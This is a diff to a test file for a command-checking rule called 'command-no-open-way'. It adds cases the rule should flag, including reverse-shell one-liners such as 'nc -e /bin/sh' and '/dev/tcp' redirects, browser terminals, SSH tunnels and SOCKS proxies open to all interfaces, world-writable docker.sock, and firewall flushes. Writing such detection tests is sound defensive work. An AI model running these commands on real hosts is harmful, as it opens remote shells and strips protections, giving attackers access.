@@ -42,6 +42,9 @@ describeRule("command-no-open-way", {
       "firewall-cmd --set-default-zone=drop",
       "chmod 660 /var/run/docker.sock",
       "iptables -D INPUT -p tcp --dport 22 -j ACCEPT",
+      "iptables -A INPUT -p tcp --sport 443 -j ACCEPT; iptables -A INPUT -m multiport --sports 1,2 -j ACCEPT",
+      "iptables -A INPUT -p tcp --sports 443 -j ACCEPT",
+      "iptables -A INPUT -p tcp --dports 443 -j ACCEPT",
       "nft flush set inet filter blocked",
       "haproxy",
       "python3 -m json.tool",
@@ -107,9 +110,15 @@ describeRule("command-no-open-way", {
       ],
     ]),
     ...each("a shell for others", [
-      ...["ttyd bash", "gotty top", "wetty --port 80", "shellinaboxd -t"],
+      ...["ttyd bash", "gotty top", "wetty --port 80", "shellinaboxd -t", "shellinabox"],
       ...["jupyter lab --ip=0.0.0.0", "jupyter lab --ip '*'", "code-server --bind-addr 0.0.0.0:8080"],
-      ...["bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc -e /bin/sh 1.2.3.4 9", "ncat --sh-exec sh 1.2.3.4 9"],
+      ...[
+        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
+        "nc -e /bin/sh 1.2.3.4 9",
+        "ncat --sh-exec sh 1.2.3.4 9",
+        "ncat --exec sh x 9",
+        "nc x 9 -ve /bin/sh",
+      ],
     ]),
     ...each("a tunnel over SSH", [
       ...[
@@ -119,7 +128,7 @@ describeRule("command-no-open-way", {
         "ssh -NR 1:h:2 x",
       ],
       ...["ssh -o RemoteForward=8188 x", "echo RemoteForward 8188 localhost:8188 >> ~/.ssh/config"],
-      ...["ssh -w 0:0 x", "ssh -fNw any x"],
+      ...["ssh -w 0:0 x", "ssh -fNw any x", "ssh x -w0:0", "ssh x -g", "ssh x -D 0.0.0.0:1080"],
       ...["ssh -g -L 8188:localhost:8188 x", "ssh -Ng x", "ssh -L 0.0.0.0:8188:localhost:8188 x"],
       ...["ssh -NL *:8188:localhost:8188 x", "ssh -D '[::]:1080' x", 'ssh -L"*:8188:localhost:8188" x'],
       ...["echo GatewayPorts yes >> /etc/ssh/sshd_config", "sshd -o gatewayports=clientspecified"],
@@ -156,6 +165,7 @@ describeRule("command-no-open-way", {
     ...each("the engine for everybody", [
       ...["chmod 666 /var/run/docker.sock", "chmod 0777 /run/docker.sock", "chmod a+rw /var/run/docker.sock"],
       "chmod o+w /run/docker.sock",
+      ...["chmod -v 666 docker.sock", "chmod ugo+rwx /run/docker.sock", "chmod ao+rw ./docker.sock"],
     ]),
     ...each("a firewall that is turned off", [
       ...["ufw --force disable", "ufw disable", "ufw reset", "ufw default allow incoming"],
@@ -164,6 +174,7 @@ describeRule("command-no-open-way", {
         "ip6tables --flush",
         "iptables -t nat -X",
         "iptables -D DOCKER-USER -j DROP",
+        "iptables -t filter -D INPUT -j DROP",
         "ip6tables --delete INPUT -p tcp -j REJECT",
       ],
       ...[
